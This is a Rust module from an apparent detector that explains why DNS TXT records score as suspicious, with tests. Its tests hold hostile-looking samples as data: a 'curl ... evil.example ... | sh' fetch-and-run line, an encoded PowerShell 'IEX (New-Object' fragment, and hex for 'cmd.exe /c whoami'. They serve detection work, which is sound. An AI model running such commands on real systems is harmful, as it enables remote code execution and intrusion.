//! Why a text may have the score it has, in words that a person can agree or disagree with.
//!
//! The model reads nothing of this. Of all of it only a sign ([`crate::evidence::signs`]) changes a score: it may raise one.

use std::borrow::Cow;

use crate::escape::one_line;
use crate::evidence::content::Content;
use crate::evidence::encoding::Encoding;
use crate::evidence::payload::{MAX_DECODED_CHARS, Payload, PayloadContent, find_payload};
use crate::evidence::record_types::{self, Group, Prefix, RecordType};
use crate::evidence::signs::public_keys;
use crate::evidence::signs::{self, Sign};

/// The description of one text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Explanation {
    /// `txt_type`: the record type of the whole text, or empty.
    pub record_type: &'static str,
    /// `txt_reason`: one short sentence.
    pub reason: String,
    /// `txt_encoding`: how a payload in it is encoded (`base64`, `base64url`, `base32`, `hex`, `percent`, `escapes`,
    /// `numbers`, `escaped bytes`), `none`, or empty without an answer.
    pub encoding: &'static str,
    /// `txt_decoded`: the name of the payload's content and its beginning, safe to display.
    pub decoded: String,
}

impl Explanation {
    /// The values of [`crate::columns::EXPLANATION`] but the last, in order.
    pub fn cells(&self) -> [&str; 4] {
        [self.record_type, &self.reason, self.encoding, &self.decoded]
    }
}

/// A longer text is not classified. No published record is longer, and an attacker must not make a search slow.
const MAX_RECORD_BYTES: usize = 8 << 10;
/// The same for the search for the part that breaks a record, which classifies once per part.
const MAX_BROKEN_RECORD_BYTES: usize = 1 << 10;
/// From this many encoded characters on, a valid record whose value is usually plain gets a word about them.
const MIN_UNUSUAL_CHARS: usize = 32;

/// Explains a normalised text; `None` is a row without an answer.
pub fn explain(text: Option<&[u8]>) -> Explanation {
    let Some(text) = text else {
        return Explanation { record_type: "", reason: "no answer to score".into(), encoding: "", decoded: String::new() };
    };
    let sign = signs::strongest(text); // of the text that was scored
    // `dig`, BIND and Route 53 escape semicolons.
    let text = &*match memchr::memmem::find(text, b"\\;") {
        Some(_) => Cow::Owned(
            text.split(|byte| *byte == b';').map(|part| part.strip_suffix(b"\\").unwrap_or(part)).collect::<Vec<_>>().join(&b';'),
        ),
        None => Cow::Borrowed(text),
    };
    let record_type = Some(text).filter(|text| text.len() <= MAX_RECORD_BYTES).and_then(record_types::classify);
    let payload = find_payload(text);
    let content = payload.as_ref().and_then(|payload| payload.content.as_ref());
    let format = match (record_type, record_types::begins_like(text), &payload) {
        (Some(one), ..) => describe_valid(one),
        (None, Some((one, prefix)), _) => describe_broken(text, one, prefix),
        (None, None, Some(payload)) if payload.fills(text) => "no known type".into(),
        _ => {
            let (short, bytes) = (if text.len() < 16 { "short " } else { "" }, if text.len() == 1 { "byte" } else { "bytes" });
            format!("{short}text of {} {bytes}, no known type", text.len())
        }
    };
    // A recognised payload comes first: it matters more than the valid record around it.
    let reason = match (record_type, &payload) {
        (Some(_), Some(payload)) if content.is_some() => format!("{}; otherwise {format}", describe_payload(payload)),
        (Some(one), Some(payload)) if payload.characters >= MIN_UNUSUAL_CHARS && !one.has_opaque_value() => {
            format!("{format}; {}", describe_payload(payload))
        }
        (None, Some(payload)) => format!("{format}; {}", describe_payload(payload)),
        _ => format,
    };
    // A token next to a command must not hide the command.
    let sign = sign.and_then(|sign| describe_sign(sign, content));
    let factor =
        public_keys::small_factor_of_key(text).map(|factor| format!("its RSA modulus is divisible by {factor}, so it is no real key"));
    let reason = [Some(reason), sign, factor].into_iter().flatten().collect::<Vec<_>>().join("; ");
    let decoded = match (&payload, content) {
        (None, _) => String::new(),
        (Some(payload), Some(content)) => one_line(&format!("{content}: {}", payload.decoded), MAX_DECODED_CHARS),
        (Some(payload), None) => format!("{} of unknown content", payload.decoded),
    };
    Explanation {
        record_type: record_type.map_or("", |one| one.name),
        reason,
        encoding: payload.map_or("none", |payload| payload.encoding.name()),
        decoded,
    }
}

/// What raises the score of a text; `None` if the payload says the same.
fn describe_sign(sign: Sign, content: Option<&PayloadContent>) -> Option<String> {
    Some(match sign {
        Sign::EncodedCommand if content.is_some_and(PayloadContent::is_executable) => return None,
        Sign::EncodedFile | Sign::EncodedText if content.is_some() => return None,
        Sign::Command(kind) => format!("looks like {}", kind.with_article()),
        Sign::Task => "looks like a task for an implant".into(),
        Sign::EncodedCommand => "decodes to a command or a task".into(),
        Sign::EncodedFile => "decodes to a program or an archive".into(),
        Sign::EncodedText => "decodes to readable text".into(),
        Sign::Handshake(tool) => format!("has the mark of {tool}"),
        Sign::Instruction => "tells its reader or a language model what to do".into(),
        Sign::Covert(how) => how.description().into(),
        Sign::BrokenKey => "its key begins as one, but what follows is no key".into(),
        Sign::SpfData(how) => how.description().into(),
        Sign::FormData(how) => how.description().into(),
    })
}

/// How long an encoded payload is, and what it decodes to.
fn describe_payload(payload: &Payload) -> String {
    let length = match payload.encoding {
        Encoding::EscapedBytes => format!("{} bytes that are not text", payload.characters),
        encoding => format!("{} characters of {}", payload.characters, encoding.name()),
    };
    match &payload.content {
        Some(PayloadContent::Plain(Content::Executable(kind))) => format!("{length} that decode to {}", kind.with_article()),
        Some(content) => format!("{length} that decode to {content}"),
        None => length,
    }
}

/// The type of a valid record, and where data could still hide in it.
fn describe_valid(one: &RecordType) -> String {
    let title = one.title();
    match (one.group, one.free_part.description()) {
        (Group::Token, _) => format!("a bare token in the format of {title}; the text does not say whose it is"),
        (_, None) => format!("valid {title}; no part of it can hold other data"),
        (_, Some(part)) => format!("valid {title}; data could still hide in its {part}"),
    }
}

/// Why a text is not of the type that it begins like: the one part without which it would be valid, if there is one.
fn describe_broken(text: &[u8], one: &RecordType, prefix: Prefix) -> String {
    const MAX_PARTS: usize = 32;
    let (text, title) = (String::from_utf8_lossy(text), one.title());
    let separator = match prefix {
        Prefix::Version(_, separator) => separator,
        Prefix::Name(name) => {
            let value = text.get(name.len()..).and_then(|value| value.get(1..)).unwrap_or_default();
            return match value.trim() {
                "" => format!("begins like {title} but has no value"),
                value => format!("begins like {title} but `{}` is not a valid value", short(value)),
            };
        }
    };
    if text.len() > MAX_BROKEN_RECORD_BYTES {
        return format!("begins like {title} but is not valid");
    }
    let parts: Vec<&str> = text.split(separator).collect();
    let is_valid_without = |left_out: usize| {
        let kept: Vec<&str> = parts.iter().enumerate().filter(|(i, _)| *i != left_out).map(|(_, part)| *part).collect();
        record_types::matches_type(one.name, kept.join(separator.encode_utf8(&mut [0; 4])).trim().as_bytes())
    };
    match (1..parts.len().min(MAX_PARTS)).find(|i| is_valid_without(*i)).and_then(|i| parts.get(i)) {
        Some(part) if part.trim().is_empty() => format!("begins like {title}; would be valid without an empty part"),
        Some(part) => format!("begins like {title}; would be valid without `{}`", short(part)),
        None => format!("begins like {title} but is not valid"),
    }
}

/// The beginning of a part, to name it.
fn short(part: &str) -> String {
    const MAX_CHARS: usize = 41;
    one_line(part.trim(), MAX_CHARS)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> [String; 4] {
        explain(Some(text.as_bytes())).cells().map(str::to_owned)
    }

    #[test]
    fn a_row_without_an_answer_says_so() {
        let cells = explain(None);
        assert_eq!(cells.cells(), ["", "no answer to score", "", ""]);
    }

    #[test]
    fn a_valid_record_is_named_with_its_free_part() {
        let [kind, reason, encoding, decoded] = of("v=spf1 include:_spf.example.com ~all");
        assert_eq!((&*kind, &*encoding, &*decoded), ("spf", "none", ""));
        assert!(reason.starts_with("valid SPF; data could still hide in its host names"), "{reason}");
    }

    #[test]
    fn a_broken_record_is_named_with_the_part_that_breaks_it() {
        let [kind, reason, encoding, decoded] = of("v=spf1 include:_spf.example.com x=SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA ~all");
        assert_eq!((&*kind, &*encoding), ("", "base64"));
        assert!(reason.starts_with("begins like SPF; would be valid without `x=SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA`"), "{reason}");
        assert!(decoded.starts_with("PowerShell: IEX (New-Obj"), "{decoded}");
        let [_, reason, ..] = of("google-site-verification=short");
        assert_eq!(reason, "begins like google verification but `short` is not a valid value");
        let [_, reason, ..] = of("v=DMARC1; p=none; x=\u{202e}y");
        assert_eq!(reason, r"begins like DMARC; would be valid without `x=\u{202e}y`");
        // Found in review: a valid part was blamed if two were invalid, or the separator was another type's.
        assert_eq!(of("v=spf1 include:a.example.com aWV4IChp d3IgeC5j ~all")[1], "begins like SPF but is not valid");
        assert_eq!(of("google-site-verification=")[1], "begins like google verification but has no value");
    }

    /// Found in review: 64 KiB of `; p=none` took 0.8 seconds, because each part was left out once.
    #[test]
    fn a_long_broken_record_is_not_taken_apart() {
        let [_, reason, ..] = of(&format!("v=DMARC1{} x", "; p=none".repeat(200)));
        assert!(reason == "begins like DMARC but is not valid", "{reason}");
        assert_eq!(of(&format!("v=spf1 {}-all", "ip4:192.0.2.1 ".repeat(600)))[0], "", "longer than any record");
    }

    #[test]
    fn texts_of_no_known_type_are_described() {
        assert_eq!(of("hello there")[1], "short text of 11 bytes, no known type");
        assert_eq!(of("hello there, this is a longer sentence")[1], "text of 38 bytes, no known type");
        // Found in review: an attacker chose which of the two was reported.
        assert_eq!(
            of("curl http://evil.example/0c7e3f5219ab4d0e8f435b6a7c8d9e|sh")[1],
            "text of 58 bytes, no known type; 30 characters of hex; looks like a command"
        );
        assert_eq!(of("636d642e657865202f632077686f616d69")[1..3], ["no known type; 34 characters of hex that decode to a command", "hex"]);
    }
}
